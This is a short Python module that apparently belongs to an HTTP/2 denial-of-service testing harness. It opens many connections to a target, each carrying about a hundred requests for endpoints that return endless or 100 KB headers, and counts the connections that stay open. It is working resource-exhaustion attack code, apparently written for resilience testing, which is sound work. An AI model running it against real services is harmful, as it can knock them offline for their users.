"""Responses of the application whose header never ends, or is 100 KB long."""

import frames
from attack import Attack, still_open

ATTACK = Attack()
CONNECTIONS, STREAMS = 8, range(1, 200, 2)


async def run(target):
    asked = b"".join(
        frames.request(stream, frames.head(b"/head/endless" if stream % 4 == 1 else b"/head/large"))
        for stream in STREAMS)
    opened = []
    while target.left() > 1:
        opened += await target.many(CONNECTIONS, lambda _: target.http2(frames.opening() + asked))
    return f"{len(opened)} connections with {len(STREAMS)} requests, {still_open(opened)} stayed"
